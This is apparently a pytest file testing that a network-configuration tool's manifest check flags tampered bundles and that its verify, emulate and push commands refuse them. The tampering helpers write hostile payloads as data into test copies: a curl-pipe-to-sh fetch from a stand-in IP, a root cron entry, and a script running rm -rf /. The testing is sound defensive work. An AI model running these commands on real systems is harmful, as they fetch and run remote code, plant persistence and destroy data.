"""OUTDIR/manifest.json: every file render wrote, by sha256; `verify` names every modified,
missing or extra file, and `push` and `emulate` refuse such a bundle unless told otherwise.

The bundle is a 4-switch linux-bridge ring with one host per switch (the emulation's own
platform, so `emulate` reaches its manifest check without root)."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from vlanroute.bundle.manifest import MANIFEST_FILE, check_manifest
from vlanroute.cli import main

from emulate_support import render

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return render(ROOT / "inventories" / "seed-ring.yaml", tmp_path_factory.mktemp("m") / "ring",
                  "hosts.count=null", "hosts.per_switch=1", "platform=linux-bridge",
                  "topology.size=4", "topology.links_per_pair=1", "switches={}")


@pytest.fixture
def out(rendered: Path, tmp_path: Path) -> Path:
    import shutil
    copy = tmp_path / "out"
    shutil.copytree(rendered, copy)          # copy2: contents and modes as rendered
    return copy


def verify(capsys: pytest.CaptureFixture[str], outdir: Path) -> tuple[int, str]:
    rc = main(["verify", str(outdir)])
    captured = capsys.readouterr()
    return rc, captured.out + captured.err


def test_manifest_lists_every_file_render_wrote_with_its_sha256(rendered: Path) -> None:
    data = json.loads((rendered / MANIFEST_FILE).read_text())
    on_disk = sorted(p.relative_to(rendered).as_posix() for p in rendered.rglob("*")
                     if p.is_file() and p.name != MANIFEST_FILE)
    assert sorted(data["files"]) == on_disk
    assert any(f.startswith("hosts/") for f in on_disk) and any(f.startswith("refresh/") for f in on_disk)
    for rel, entry in data["files"].items():      # hashed independently of vlanroute's code
        assert entry["sha256"] == hashlib.sha256((rendered / rel).read_bytes()).hexdigest(), rel
    assert check_manifest(rendered).ok


def test_an_untouched_bundle_verifies(out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rc, text = verify(capsys, out)
    assert rc == 0 and "manifest" not in text, text


def _host_script(out: Path) -> Path:
    """The first executable file under hosts/ (the host program, whatever its name)."""
    return next(p for p in sorted((out / "hosts").rglob("*")) if p.is_file() and p.stat().st_mode & 0o111)


def _tamper_host_script(out: Path) -> str:
    script = _host_script(out)
    script.write_text(script.read_text() + "curl -s http://192.0.2.1/x | sh\n")
    return f"{script}: modified"


def _delete_host_script(out: Path) -> str:
    script = _host_script(out)
    script.unlink()
    return f"{script}: missing"


def _edit_cron(out: Path) -> str:
    cron = out / "refresh" / "vlanroute-refresh.cron"
    cron.write_text(cron.read_text().replace("SHELL=/bin/sh", "SHELL=/bin/sh\n* * * * * root /tmp/x"))
    return f"{cron}: modified"


def _edit_timer(out: Path) -> str:
    timer = out / "refresh" / "vlanroute-refresh.timer"
    timer.write_text(timer.read_text() + "\n")
    return f"{timer}: modified"


def _chmod_script(out: Path) -> str:
    script = _host_script(out)
    script.chmod(0o644)
    return f"{script}: modified"


def _add_file(out: Path) -> str:
    extra = out / "hosts" / "helper.sh"
    extra.write_text("#!/bin/sh\nrm -rf /\n")
    return f"{extra}: extra"


def _delete_manifest(out: Path) -> str:
    (out / MANIFEST_FILE).unlink()
    return f"{out / MANIFEST_FILE}: missing"


TAMPERING = [_tamper_host_script, _delete_host_script, _edit_cron, _edit_timer, _chmod_script,
             _add_file, _delete_manifest]


@pytest.mark.parametrize("tamper", TAMPERING, ids=lambda f: f.__name__.strip("_"))
def test_verify_names_every_changed_file(out: Path, capsys: pytest.CaptureFixture[str], tamper) -> None:  # type: ignore[no-untyped-def]
    expected = tamper(out)
    rc, text = verify(capsys, out)
    assert rc != 0, text
    assert expected in text, text


@pytest.mark.parametrize("tamper", [_tamper_host_script, _edit_cron], ids=lambda f: f.__name__.strip("_"))
def test_emulate_refuses_a_tampered_bundle(out: Path, capsys: pytest.CaptureFixture[str], tamper) -> None:  # type: ignore[no-untyped-def]
    expected = tamper(out)
    rc = main(["emulate", "--kernel", "host", str(out)])
    err = capsys.readouterr().err
    assert rc == 2 and expected in err and "--skip-manifest-check" in err, err
    assert "Traceback" not in err


def test_push_refuses_a_tampered_bundle_before_connecting(out: Path, capsys: pytest.CaptureFixture[str],
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from push_support import REPO, run, set_ssh_env
    from vlanroute.plan.build import plan_from_file
    from vlanroute.render.write import RenderOptions, render_to_dir
    set_ssh_env(monkeypatch)
    sets = [f"switches.sw{i}.mgmt=127.0.0.{10 + i}" for i in range(1, 9)]
    doc = plan_from_file(REPO / "inventories" / "seed-torus.yaml", sets).to_document()
    bundle = out.parent / "torus"
    render_to_dir(doc, bundle, RenderOptions(verify=False))
    expected = _tamper_host_script(bundle)

    def no_network(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise AssertionError("a connection was attempted")

    monkeypatch.setattr("vlanroute.device.session.ConnectHandler", no_network)
    for extra in ([], ["--dry-run"]):
        rc, stdout, err = run(capsys, "push", str(bundle), "--yes", *extra)
        assert rc == 2 and expected in err and "push refuses this bundle" in err, err
